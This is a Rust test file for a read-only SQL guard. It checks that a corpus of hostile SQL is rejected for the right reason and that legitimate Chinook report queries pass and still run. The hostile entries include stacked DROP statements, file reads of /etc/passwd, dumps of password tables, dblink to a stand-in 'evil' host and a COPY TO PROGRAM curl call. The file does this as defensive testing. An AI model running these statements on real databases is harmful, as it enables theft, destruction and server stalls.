//! The guard's corpus: hostile or invalid SQL that must be rejected, each for
//! its own stated reason, and legitimate report queries that must pass.
//!
//! A hostile entry names the text its rejection reason must contain, so a
//! statement rejected for the wrong reason (a parse error where a denylist hit
//! was expected, say) fails the test. Legitimate queries must be accepted, and
//! the SQL the guard returns must still run on Chinook in its dialect (the
//! PostgreSQL and MariaDB runs skip when a server is unreachable, unless
//! `CI=true`).

mod common;

use sqlsynth::dialect::Dialect::{self, MySql, Postgres, Sqlite};
use sqlsynth::guard::ReadOnlyGuard;

/// (dialect, SQL, text the rejection reason must contain)
const HOSTILE: &[(Dialect, &str, &str)] = &[
    // Stacked statements and comments hiding a second statement.
    (Sqlite, "SELECT 1; ATTACH DATABASE '/tmp/evil.db' AS evil", "only one statement is allowed (found 2)"),
    (Sqlite, "SELECT 1; DROP TABLE \"Customer\"", "only one statement is allowed (found 2)"),
    (Sqlite, "SELECT 1 -- harmless\n; DROP TABLE \"Customer\"", "only one statement is allowed (found 2)"),
    (Postgres, "SELECT 1 /* ; */; DELETE FROM invoice; SELECT 2", "only one statement is allowed (found 3)"),
    (MySql, "SELECT 1; SET GLOBAL max_connections = 1", "only one statement is allowed (found 2)"),
    // Not a query at all.
    (Sqlite, "ATTACH DATABASE '/tmp/evil.db' AS evil", "ATTACH is not a read-only query"),
    (Sqlite, "DETACH DATABASE main", "DETACH"),
    (Sqlite, "PRAGMA writable_schema = 1", "PRAGMA is not a read-only query"),
    (Sqlite, "INSERT INTO \"Genre\" VALUES (99, 'x')", "INSERT is not a read-only query"),
    (Sqlite, "UPDATE \"Customer\" SET \"Email\" = NULL", "UPDATE is not a read-only query"),
    (Sqlite, "CREATE TABLE copy AS SELECT * FROM \"Customer\"", "CREATE is not a read-only query"),
    (Postgres, "DELETE FROM invoice", "DELETE is not a read-only query"),
    (Postgres, "DROP TABLE invoice", "DROP is not a read-only query"),
    (Postgres, "ALTER TABLE invoice ADD COLUMN x int", "ALTER is not a read-only query"),
    (Postgres, "TRUNCATE invoice", "TRUNCATE is not a read-only query"),
    (Postgres, "GRANT ALL ON invoice TO PUBLIC", "GRANT is not a read-only query"),
    (Postgres, "COPY invoice TO '/tmp/invoice.csv'", "COPY is not a read-only query"),
    (Postgres, "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", "COPY is not a read-only query"),
    (Postgres, "CALL refresh_totals()", "CALL is not a read-only query"),
    (Postgres, "SET statement_timeout = 0", "SET is not a read-only query"),
    (Postgres, "SHOW search_path", "SHOW is not a read-only query"),
    (Postgres, "EXPLAIN ANALYZE SELECT * FROM invoice", "EXPLAIN is not a read-only query"),
    (Postgres, "DO $$ BEGIN PERFORM pg_sleep(10); END $$", "found: DO"),
    (MySql, "SET GLOBAL max_connections = 1", "SET is not a read-only query"),
    (MySql, "DELETE FROM Invoice", "DELETE is not a read-only query"),
    // Data-modifying CTEs.
    (Postgres, "WITH gone AS (DELETE FROM invoice RETURNING *) SELECT count(*) FROM gone", "DELETE is not a read-only"),
    (Postgres, "WITH u AS (UPDATE invoice SET total = 0 RETURNING total) SELECT * FROM u", "UPDATE is not a read-only"),
    (
        Postgres,
        "WITH i AS (INSERT INTO genre VALUES (99, 'x') RETURNING *) SELECT * FROM i",
        "INSERT is not a read-only",
    ),
    // SELECT INTO, files, locks.
    (Postgres, "SELECT * INTO invoice_backup FROM invoice", "SELECT ... INTO writes a table"),
    (MySql, "SELECT Total INTO @t FROM Invoice LIMIT 1", "SELECT ... INTO writes a table"),
    (MySql, "SELECT * FROM Customer INTO OUTFILE '/tmp/customers.csv'", "INTO OUTFILE writes a file"),
    (MySql, "SELECT Email FROM Customer LIMIT 1 INTO DUMPFILE '/tmp/x'", "INTO DUMPFILE writes a file"),
    (Postgres, "SELECT * FROM invoice FOR UPDATE", "locking clause FOR UPDATE is not allowed"),
    (Postgres, "SELECT * FROM (SELECT * FROM invoice FOR SHARE) i", "locking clause FOR SHARE is not allowed"),
    (Postgres, "SELECT * FROM invoice FOR NO KEY UPDATE SKIP LOCKED", "locking clause FOR NO KEY UPDATE"),
    (MySql, "SELECT * FROM Invoice FOR UPDATE", "locking clause FOR UPDATE is not allowed"),
    (MySql, "SELECT * FROM Invoice LOCK IN SHARE MODE", "locking clause LOCK IN SHARE MODE is not allowed"),
    // MySQL executable comments and hints.
    (MySql, "SELECT 1 /*!50000 , SLEEP(10) */", "MySQL executable comment /*! ... */ is not allowed"),
    (MySql, "/*!50000 DROP TABLE Invoice */ SELECT 1", "MySQL executable comment"),
    (Postgres, "SELECT 1 /*! harmless here, refused anyway */", "MySQL executable comment"),
    (MySql, "SELECT /*+ MAX_EXECUTION_TIME(999999999) */ * FROM Track", "optimizer hint"),
    (MySql, "SELECT @n := COUNT(*) FROM Track", "variable assignment"),
    (MySql, "SELECT 'it\\'s', ' FROM Track INTO OUTFILE ''/tmp/x'' -- '", "backslash-escaped quote"),
    // Dangerous functions, wherever they hide.
    (Postgres, "SELECT pg_sleep(10)", "function pg_sleep is not allowed: it can stall the server"),
    (Postgres, "SELECT name FROM artist WHERE pg_catalog.pg_sleep(1) IS NULL", "pg_catalog.pg_sleep is not allowed"),
    (Postgres, "SELECT CASE WHEN total > 0 THEN PG_SLEEP(1) END FROM invoice", "PG_SLEEP is not allowed"),
    (Postgres, "SELECT pg_read_file('/etc/passwd')", "function pg_read_file is not allowed: it reads files"),
    (Postgres, "SELECT lo_export(16384, '/tmp/x')", "function lo_export is not allowed"),
    (Postgres, "SELECT lo_import('/etc/passwd')", "function lo_import is not allowed"),
    (Postgres, "SELECT set_config('statement_timeout', '0', false)", "function set_config is not allowed"),
    (Postgres, "SELECT current_setting('data_directory')", "function current_setting is not allowed"),
    (Postgres, "SELECT query_to_xml('DELETE FROM invoice RETURNING 1', true, true, '')", "query_to_xml is not allowed"),
    (Postgres, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "function dblink is not allowed"),
    (Postgres, "SELECT dblink_exec('host=evil', 'DROP TABLE invoice')", "function dblink_exec is not allowed"),
    (Postgres, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "pg_terminate_backend is not allowed"),
    (Postgres, "SELECT pg_advisory_lock(42)", "function pg_advisory_lock is not allowed: it takes locks"),
    (Postgres, "SELECT pg_try_advisory_xact_lock(42)", "pg_try_advisory_xact_lock is not allowed"),
    (Postgres, "SELECT nextval('invoice_invoice_id_seq')", "function nextval is not allowed: it writes a sequence"),
    (Postgres, "SELECT txid_current()", "function txid_current is not allowed"),
    (Postgres, "SELECT rank() OVER (ORDER BY pg_sleep(1)) FROM invoice", "pg_sleep is not allowed"),
    (Postgres, "SELECT * FROM generate_series(1, 3) g WHERE g IN (SELECT pg_reload_conf()::int)", "pg_reload_conf"),
    (Postgres, "SELECT \"Count\"(*) FROM invoice", "function \"Count\" is not on the allowlist"),
    (Postgres, "SELECT public.lower('x')", "public.lower is not on the allowlist"),
    (Postgres, "SELECT usename, passwd FROM pg_shadow", "table pg_shadow is not allowed"),
    (Sqlite, "SELECT load_extension('/tmp/evil.so')", "function load_extension is not allowed"),
    (Sqlite, "SELECT readfile('/etc/passwd')", "function readfile is not allowed"),
    (Sqlite, "SELECT writefile('/tmp/x', 'data')", "function writefile is not allowed"),
    (Sqlite, "SELECT name FROM fsdir('/')", "function fsdir is not allowed"),
    (Sqlite, "SELECT * FROM pragma_table_info('Customer')", "function pragma_table_info is not on the allowlist"),
    (Sqlite, "SELECT evil_udf(\"Total\") FROM \"Invoice\"", "function evil_udf is not on the allowlist"),
    (MySql, "SELECT LOAD_FILE('/etc/passwd')", "function LOAD_FILE is not allowed: it reads files"),
    (MySql, "SELECT SLEEP(10)", "function SLEEP is not allowed: it can stall the server"),
    (MySql, "SELECT BENCHMARK(100000000, MD5('x'))", "function BENCHMARK is not allowed"),
    (MySql, "SELECT GET_LOCK('x', 10)", "function GET_LOCK is not allowed: it takes locks"),
    (MySql, "SELECT RELEASE_LOCK('x')", "function RELEASE_LOCK is not allowed"),
    (MySql, "SELECT sys_exec('id')", "function sys_exec is not allowed"),
    (MySql, "SELECT User, authentication_string FROM mysql.user", "table mysql.user is not allowed"),
    (MySql, "SELECT 1 UNION TABLE mysql.user", "TABLE shorthand is not allowed"),
    // Nothing, or not SQL.
    (Sqlite, "", "empty SQL"),
    (Postgres, "  -- only a comment\n", "empty SQL"),
    (MySql, ";", "empty SQL"),
    (Sqlite, "please list all customers", "sql parser error"),
    (Postgres, "SELECT FROM WHERE )(", "sql parser error"),
    (Postgres, "SELECT 'unterminated", "Unterminated string literal"),
];

/// (dialect, SQL) report queries the guard must accept. Each runs on Chinook
/// in its dialect: CamelCase tables in SQLite and MariaDB, snake_case in PostgreSQL.
const LEGITIMATE: &[(Dialect, &str)] = &[
    (
        Sqlite,
        "SELECT \"Country\", COUNT(*) AS customers FROM \"Customer\" GROUP BY \"Country\" ORDER BY customers DESC",
    ),
    (
        Sqlite,
        "SELECT a.\"Name\", COUNT(*) FROM \"Artist\" a JOIN \"Album\" al ON al.\"ArtistId\" = a.\"ArtistId\" \
         JOIN \"Track\" t ON t.\"AlbumId\" = al.\"AlbumId\" GROUP BY a.\"Name\" ORDER BY 2 DESC LIMIT 5",
    ),
    (Sqlite, "SELECT strftime('%Y', \"InvoiceDate\") AS year, SUM(\"Total\") FROM \"Invoice\" GROUP BY 1"),
    (
        Sqlite,
        "SELECT \"InvoiceLine\".\"UnitPrice\", SUM(\"InvoiceLine\".\"Quantity\") AS sold FROM \"InvoiceLine\" \
         GROUP BY \"InvoiceLine\".\"UnitPrice\" HAVING SUM(\"InvoiceLine\".\"Quantity\") > 10",
    ),
    (
        Sqlite,
        "WITH yearly AS (SELECT CAST(strftime('%Y', \"InvoiceDate\") AS INTEGER) AS y, SUM(\"Total\") AS total \
         FROM \"Invoice\" GROUP BY 1) SELECT y, total, total - LAG(total) OVER (ORDER BY y) AS growth FROM yearly",
    ),
    (
        Sqlite,
        "SELECT \"Name\", ROW_NUMBER() OVER (PARTITION BY \"GenreId\" ORDER BY \"Milliseconds\" DESC) AS rn \
         FROM \"Track\" WHERE \"GenreId\" IN (SELECT \"GenreId\" FROM \"Genre\" WHERE \"Name\" LIKE 'R%') \
         LIMIT 20 OFFSET 5",
    ),
    (
        Sqlite,
        "SELECT CASE WHEN \"Total\" >= 10 THEN 'big' ELSE 'small' END AS size, COUNT(*), ROUND(AVG(\"Total\"), 2) \
         FROM \"Invoice\" WHERE date(\"InvoiceDate\") >= date('2009-01-01') GROUP BY size",
    ),
    (
        Sqlite,
        "SELECT \"FirstName\" || ' ' || \"LastName\" AS name, COALESCE(\"Company\", 'n/a'), IFNULL(\"State\", '') \
         FROM \"Customer\" WHERE \"Country\" = 'O''Brien land' OR \"Country\" = 'Brazil'",
    ),
    (
        Sqlite,
        "SELECT \"Country\" FROM \"Customer\" UNION SELECT \"BillingCountry\" FROM \"Invoice\" \
         EXCEPT SELECT 'USA' ORDER BY 1",
    ),
    (Sqlite, "VALUES (1, 'one'), (2, 'two')"),
    (Sqlite, "SELECT group_concat(\"Name\", ', ') FROM (SELECT \"Name\" FROM \"Genre\" ORDER BY \"Name\" LIMIT 3)"),
    (Sqlite, "SELECT 1;"),
    (Postgres, "SELECT EXTRACT(YEAR FROM invoice_date) AS year, SUM(total) FROM invoice GROUP BY 1"),
    (
        Postgres,
        "SELECT date_trunc('month', invoice_date)::date AS month, SUM(total) FILTER (WHERE total > 1) \
         FROM invoice GROUP BY 1 HAVING SUM(total) > 10 ORDER BY 1 LIMIT 10 OFFSET 5",
    ),
    (
        Postgres,
        "SELECT \"InvoiceLine\".\"UnitPrice\", string_agg(DISTINCT t.name, ', ') FROM (SELECT track_id, \
         unit_price AS \"UnitPrice\" FROM invoice_line) AS \"InvoiceLine\" JOIN track t USING (track_id) GROUP BY 1",
    ),
    (
        Postgres,
        "SELECT c.country, DENSE_RANK() OVER (ORDER BY SUM(i.total) DESC) FROM customer c \
         LEFT JOIN invoice i ON i.customer_id = c.customer_id GROUP BY c.country",
    ),
    (Postgres, "SELECT name FROM track ORDER BY milliseconds DESC NULLS LAST FETCH FIRST 5 ROWS ONLY"),
    (
        Postgres,
        "SELECT g, SUM(g) OVER (ORDER BY g ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM generate_series(1, 5) g",
    ),
    (Postgres, "SELECT E'a\\\\b' AS escaped, 'it''s' AS quoted, 'C:\\temp' AS standard, $$dollar$$ AS dollar"),
    (Postgres, "SELECT x FROM (VALUES (1), (2)) AS v (x) WHERE EXISTS (SELECT 1 FROM genre) ORDER BY x DESC"),
    (Postgres, "SELECT pg_catalog.upper(name) FROM artist WHERE artist_id = 1"),
    (
        MySql,
        "SELECT YEAR(InvoiceDate) AS y, DATE_FORMAT(InvoiceDate, '%Y-%m') AS m, SUM(Total) FROM Invoice GROUP BY y, m",
    ),
    (MySql, "SELECT `InvoiceLine`.`UnitPrice`, COUNT(*) FROM `InvoiceLine` GROUP BY `InvoiceLine`.`UnitPrice`"),
    (
        MySql,
        "SELECT c.Country, IF(COUNT(*) > 5, 'many', 'few'), \
         GROUP_CONCAT(DISTINCT c.City ORDER BY c.City SEPARATOR ', ') FROM Customer c \
         WHERE c.SupportRepId IN (SELECT EmployeeId FROM Employee) GROUP BY c.Country LIMIT 5, 10",
    ),
    (
        MySql,
        "SELECT * FROM Invoice WHERE InvoiceDate >= DATE_SUB('2013-12-31', INTERVAL 30 DAY) \
         AND BillingCity LIKE 'S\\_o%'",
    ),
    (MySql, "SELECT Name, ROW_NUMBER() OVER (ORDER BY Milliseconds DESC) FROM Track LIMIT 3"),
    (MySql, "SELECT 'C:\\\\temp\\\\' AS path, 'it''s' AS quoted, \"double\" AS double_quoted"),
];

#[test]
fn hostile_statements_are_rejected_for_the_right_reason() {
    assert!(HOSTILE.len() >= 40, "the corpus keeps at least 40 hostile entries");
    let failures: Vec<String> = HOSTILE
        .iter()
        .filter_map(|&(dialect, sql, expected)| match ReadOnlyGuard::new(dialect).check(sql) {
            Ok(guarded) => Some(format!("[{dialect}] {sql:?} was accepted as {:?}", guarded.sql)),
            Err(e) if !e.reason.contains(expected) => {
                Some(format!("[{dialect}] {sql:?} was rejected for {:?}, expected {expected:?}", e.reason))
            }
            Err(_) => None,
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} hostile entries failed:\n{}",
        failures.len(),
        HOSTILE.len(),
        failures.join("\n")
    );
}

#[test]
fn legitimate_queries_are_accepted_and_stable() {
    assert!(LEGITIMATE.len() >= 15, "the corpus keeps at least 15 legitimate entries");
    let mut failures = Vec::new();
    for &(dialect, sql) in LEGITIMATE {
        let guard = ReadOnlyGuard::new(dialect);
        match guard.check(sql) {
            // The output is itself a guarded query, which renders to itself.
            Ok(guarded) => match guard.check(&guarded.sql) {
                Ok(again) if again == guarded => {}
                other => {
                    failures.push(format!("[{dialect}] {sql:?} became {:?}, which re-checks as {other:?}", guarded.sql))
                }
            },
            Err(e) => failures.push(format!("[{dialect}] {sql:?} was rejected: {}", e.reason)),
        }
    }
    assert!(failures.is_empty(), "{} legitimate queries failed:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn rendering_keeps_quoting_and_drops_comments() {
    let check = |dialect, sql| ReadOnlyGuard::new(dialect).check(sql).expect("accepted").sql;
    assert_eq!(
        check(Postgres, "SELECT \"InvoiceLine\".\"UnitPrice\" -- the price\nFROM \"InvoiceLine\" /* all */;"),
        "SELECT \"InvoiceLine\".\"UnitPrice\" FROM \"InvoiceLine\""
    );
    assert_eq!(
        check(MySql, "SELECT `InvoiceLine`.`UnitPrice` # price\nFROM `InvoiceLine`"),
        "SELECT `InvoiceLine`.`UnitPrice` FROM `InvoiceLine`"
    );
    assert_eq!(check(Sqlite, "select \"Name\" from \"Artist\" limit 3"), "SELECT \"Name\" FROM \"Artist\" LIMIT 3");
}

/// The guarded form of every legitimate query of `dialect`.
fn guarded_legitimate(dialect: Dialect) -> impl Iterator<Item = (&'static str, String)> {
    LEGITIMATE.iter().filter(move |(d, _)| *d == dialect).map(move |&(_, sql)| {
        let guarded = ReadOnlyGuard::new(dialect).check(sql).unwrap_or_else(|e| panic!("{sql:?}: {e}"));
        (sql, guarded.sql)
    })
}

#[tokio::test]
async fn guarded_sqlite_queries_run_on_chinook() {
    let url = format!("{}?mode=ro", common::chinook::chinook_sqlite_url());
    let pool = sqlx::SqlitePool::connect(&url).await.expect("the demo database opens");
    for (sql, guarded) in guarded_legitimate(Sqlite) {
        if let Err(e) = sqlx::query(&guarded).fetch_all(&pool).await {
            panic!("{guarded:?} (guarded from {sql:?}) fails on SQLite: {e}");
        }
    }
}

#[tokio::test]
async fn guarded_postgres_queries_run_on_chinook() {
    let Some(url) = common::chinook::chinook_postgres().await else { return };
    let pool = sqlx::PgPool::connect(&url).await.expect("Chinook on PostgreSQL opens");
    for (sql, guarded) in guarded_legitimate(Postgres) {
        if let Err(e) = sqlx::query(&guarded).fetch_all(&pool).await {
            panic!("{guarded:?} (guarded from {sql:?}) fails on PostgreSQL: {e}");
        }
    }
}

#[tokio::test]
async fn guarded_mysql_queries_run_on_chinook() {
    let Some(url) = common::chinook::chinook_mysql().await else { return };
    let pool = sqlx::MySqlPool::connect(&url).await.expect("Chinook on MariaDB opens");
    for (sql, guarded) in guarded_legitimate(MySql) {
        if let Err(e) = sqlx::query(&guarded).fetch_all(&pool).await {
            panic!("{guarded:?} (guarded from {sql:?}) fails on MariaDB: {e}");
        }
    }
    // Literals reach the server exactly as written, so it reads the value their author meant.
    let guarded = ReadOnlyGuard::new(MySql).check(r"SELECT 'C:\\temp\\', 'it''s'").expect("accepted");
    let values: (String, String) = sqlx::query_as(&guarded.sql).fetch_one(&pool).await.expect("runs");
    assert_eq!(values, (r"C:\temp\".to_string(), "it's".to_string()));
}
